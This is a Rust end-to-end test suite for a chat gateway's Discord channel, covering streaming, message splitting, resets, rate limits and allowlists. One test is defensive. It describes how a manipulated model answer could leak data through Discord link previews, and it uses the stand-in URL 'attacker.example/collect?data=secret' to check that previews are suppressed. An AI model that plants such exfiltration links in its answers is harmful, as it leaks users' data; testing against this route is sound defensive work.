//! The Discord channel end to end, the flow of messages: the real gateway binary, the Discord
//! stand-in (REST + gateway websocket) and the stand-in provider, all on 127.0.0.1. Pairing, tokens
//! and `doctor` are in `e2e_discord_access.rs`.

mod common;

use std::time::Duration;

use common::*;
use open_clanker_testkit::discord::{self, BOT_ID, DiscordStandIn, Failure, Incoming};

type Setup = ChatGateway<DiscordStandIn>;

/// A gateway with Discord pointed at a fresh stand-in and `extra` environment, once connected.
async fn setup(extra: &[(&str, &str)]) -> Setup {
    Setup::discord(extra, None).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_allowed_dm_gets_a_streamed_reply_that_is_stored() {
    let s = setup(&[("OPEN_CLANKER_DISCORD_ALLOW_FROM", "42")]).await;
    let status = s.status();
    let dc = channel(&status, "discord");
    assert_eq!(dc["enabled"], true);
    assert_eq!(dc["connected"], true, "{status}");
    assert_eq!(dc["bot_name"], discord_bot_name());
    assert_eq!(channel(&status, "telegram")["enabled"], false);
    let (ok, out, _) = s.cli(&["status"]);
    assert!(ok && out.contains(&discord_bot_name()), "{out}");
    let identify = &s.platform.identifies()[0];
    assert_eq!(
        identify["intents"].as_u64(),
        Some(
            discord::INTENT_GUILD_MESSAGES
                | discord::INTENT_DIRECT_MESSAGES
                | discord::INTENT_MESSAGE_CONTENT
        )
    );

    s.platform
        .push_dm(42, "one two three four five six seven **eight** #delay=300");
    let chat = discord::dm_channel_id(42);
    let answer = "echo: one two three four five six seven **eight** #delay=300";
    let messages = s.wait_text(chat, 0, answer).await;
    assert_eq!(messages.len(), 1, "{messages:#?}");
    assert!(
        messages[0].edits >= 1,
        "streamed: {:#?}",
        s.platform.calls()
    );
    let edits = s.platform.calls_of("editMessage");
    for pair in edits.windows(2) {
        assert!(
            pair[1].at - pair[0].at >= Duration::from_millis(1400),
            "edits too fast: {edits:#?}"
        );
    }
    assert!(!s.platform.calls_of("triggerTypingIndicator").is_empty());
    assert_eq!(s.platform.calls_of("createMessage").len(), 1);

    let key = format!("discord:{chat}");
    let (id, count) = s.session(&key).expect("session by its key");
    assert_eq!(count, 2);
    let (ok, out, err) = s.cli(&["sessions", "show", &id]);
    assert!(ok, "{err}");
    assert!(out.contains("user: one two three"), "{out}");
    assert!(out.contains(&format!("assistant: {answer}")), "{out}");
    let (exit, _, logs) = s.gw.terminate();
    assert!(exit.success(), "{logs}");
    assert!(
        !logs.contains(DISCORD_TOKEN),
        "the bot token leaked into the logs"
    );
    assert!(logs.contains("Discord bot connected"), "{logs}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn long_answers_are_split_and_reset_starts_afresh() {
    let s = setup(&[("OPEN_CLANKER_DISCORD_ALLOW_FROM", "42")]).await;
    let chat = discord::dm_channel_id(42);
    s.platform.push_dm(42, "#tokens=700");
    let answer: String = (0..700)
        .map(|i| format!("tok{i}"))
        .collect::<Vec<_>>()
        .join(" ");
    let complete = s
        .platform
        .wait_until(WAIT, |dc| {
            dc.messages(chat)
                .last()
                .is_some_and(|m| m.content.ends_with("tok699"))
        })
        .await;
    assert!(complete, "{:#?}", s.platform.messages(chat));
    let messages = s.platform.messages(chat);
    assert!(answer.len() > 2 * 2000);
    assert_eq!(
        messages.len(),
        3,
        "{:?}",
        messages.iter().map(|m| m.content.len()).collect::<Vec<_>>()
    );
    for m in &messages {
        assert!(m.content.chars().count() <= 2000);
        assert!(!m.content.starts_with(' ') && !m.content.ends_with(' '));
    }
    let joined: Vec<&str> = messages.iter().map(|m| m.content.as_str()).collect();
    assert_eq!(joined.join(" "), answer, "words are whole and in order");
    assert!(
        s.platform.calls().iter().all(|c| c.status < 400),
        "none refused"
    );

    let key = format!("discord:{chat}");
    assert_eq!(s.session(&key).unwrap().1, 2);
    s.platform.push_dm(42, "/reset");
    let messages = s.settled(chat, 4).await;
    assert!(
        messages[3].content.contains("Fresh start"),
        "{}",
        messages[3].content
    );
    assert_eq!(s.session(&key).unwrap().1, 0, "history cleared");
    s.platform.push_dm(42, "again");
    s.wait_text(chat, 4, "echo: again").await;
    let last = s.provider.requests().pop().unwrap();
    assert_eq!(
        last.body["messages"].as_array().unwrap().len(),
        1,
        "no earlier history after the reset: {}",
        last.body
    );
    s.platform.push_dm(42, "/status");
    let messages = s.settled(chat, 6).await;
    assert!(
        messages[5].content.contains(&key) && messages[5].content.contains("2 messages"),
        "{}",
        messages[5].content
    );
    s.platform.push_dm(42, "/help");
    let messages = s.settled(chat, 7).await;
    assert!(
        messages[6].content.contains("/reset"),
        "{}",
        messages[6].content
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rate_limit_is_waited_out() {
    let s = setup(&[("OPEN_CLANKER_DISCORD_ALLOW_FROM", "42")]).await;
    s.platform
        .fail_next("createMessage", Failure::RetryAfter(2.0));
    s.platform.push_dm(42, "hi");
    s.wait_text(discord::dm_channel_id(42), 0, "echo: hi").await;
    let sends = s.platform.calls_of("createMessage");
    assert_eq!(sends[0].status, 429);
    let ok = sends
        .iter()
        .find(|c| c.status == 200)
        .expect("a successful send");
    assert!(
        ok.at - sends[0].at >= Duration::from_secs(2),
        "retry_after honoured: {sends:#?}"
    );
    assert_eq!(s.platform.messages(discord::dm_channel_id(42)).len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guild_channels_answer_mentions_and_replies_only() {
    let s = Setup::discord(
        &[("OPEN_CLANKER_DISCORD_DM_POLICY", "allowlist")],
        Some("[channels.discord]\ngroup_allow_from = [600]\n"),
    )
    .await;
    let (guild, chan) = (500, 600);
    s.platform
        .push_guild(guild, chan, 5, "talking among ourselves");
    let asked = s
        .platform
        .push_guild(guild, chan, 5, &format!("<@{BOT_ID}> what is up"));
    let messages = s.wait_text(chan, 0, "echo: what is up").await;
    assert_eq!(messages.len(), 1);
    assert_eq!(messages[0].reply_to, Some(asked), "answers as a reply");
    s.platform.push(Incoming {
        channel_id: chan,
        guild_id: Some(guild),
        author: 6,
        author_is_bot: false,
        text: "and me".into(),
        reply_to: Some(messages[0].message_id),
    });
    s.wait_text(chan, 1, "echo: and me").await;
    assert_eq!(s.session(&format!("discord:{chan}:5")).unwrap().1, 2);
    assert_eq!(s.session(&format!("discord:{chan}:6")).unwrap().1, 2);
    assert_eq!(
        s.provider.request_count(),
        2,
        "the unaddressed one was not sent"
    );
    // Another channel is not on the list.
    s.platform
        .push_guild(guild, 700, 5, &format!("<@!{BOT_ID}> hi"));
    // Under the allowlist DM policy a stranger is ignored: no code, no model.
    s.platform.push_dm(9, "anyone?");
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert!(s.platform.messages(700).is_empty());
    assert!(s.platform.messages(discord::dm_channel_id(9)).is_empty());
    assert_eq!(s.provider.request_count(), 2);
}

/// Discord fetches every link in a message to preview it, unless the message has the
/// SUPPRESS_EMBEDS flag: an answer the model was talked into writing must not make Discord send
/// data anywhere without a click. Every message the bot sends or edits carries the flag, unless
/// `link_previews` allows previews.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn answers_suppress_link_previews_unless_allowed() {
    let link = "see https://attacker.example/collect?data=secret";
    for (previews, flags) in [(None, discord::SUPPRESS_EMBEDS), (Some("true"), 0)] {
        let mut env = vec![("OPEN_CLANKER_DISCORD_ALLOW_FROM", "42")];
        env.extend(previews.map(|on| ("OPEN_CLANKER_DISCORD_LINK_PREVIEWS", on)));
        let s = setup(&env).await;
        let chat = discord::dm_channel_id(42);
        s.platform.push_dm(42, &format!("{link} #delay=300"));
        let messages = s
            .wait_text(chat, 0, &format!("echo: {link} #delay=300"))
            .await;
        assert_eq!(messages[0].flags, flags, "{messages:#?}");
        assert!(
            messages[0].edits >= 1,
            "streamed: {:#?}",
            s.platform.calls()
        );
        // A stranger's pairing message and a command's answer go out the same way.
        s.platform.push_dm(9, "hello? https://attacker.example/");
        s.settled(discord::dm_channel_id(9), 1).await;
        s.platform.push_dm(42, "/help");
        s.settled(chat, 2).await;
        let sent: Vec<_> = ["createMessage", "editMessage"]
            .iter()
            .flat_map(|route| s.platform.calls_of(route))
            .collect();
        assert!(sent.len() >= 4, "{sent:#?}");
        for call in sent {
            assert_eq!(call.status, 200, "{call:#?}");
            assert_eq!(call.body["flags"].as_u64(), Some(flags), "{call:#?}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn telegram_and_discord_run_side_by_side() {
    let tg = spawn_telegram(TELEGRAM_TOKEN).await;
    let tg_api = tg.api_url();
    let [tg_token, tg_api] = telegram_env(TELEGRAM_TOKEN, &tg_api);
    let s = setup(&[
        ("OPEN_CLANKER_DISCORD_ALLOW_FROM", "42"),
        tg_token,
        tg_api,
        ("OPEN_CLANKER_TELEGRAM_ALLOW_FROM", "43"),
    ])
    .await;
    polling(&tg).await;
    let status = s.status();
    assert_eq!(channel(&status, "telegram")["connected"], true, "{status}");
    assert_eq!(channel(&status, "discord")["connected"], true, "{status}");
    s.platform.push_dm(42, "from discord");
    tg.push_text(43, 43, "from telegram");
    s.wait_text(discord::dm_channel_id(42), 0, "echo: from discord")
        .await;
    wait_text(&tg, 43, 0, "echo: from telegram").await;
    assert!(
        s.session(&format!("discord:{}", discord::dm_channel_id(42)))
            .is_some()
    );
    assert!(s.session("telegram:43").is_some());
    let (exit, elapsed, logs) = s.gw.terminate();
    assert!(exit.success(), "{logs}");
    assert!(elapsed < Duration::from_secs(15), "stopped in {elapsed:?}");
    assert!(!logs.contains(DISCORD_TOKEN) && !logs.contains(TELEGRAM_TOKEN));
}
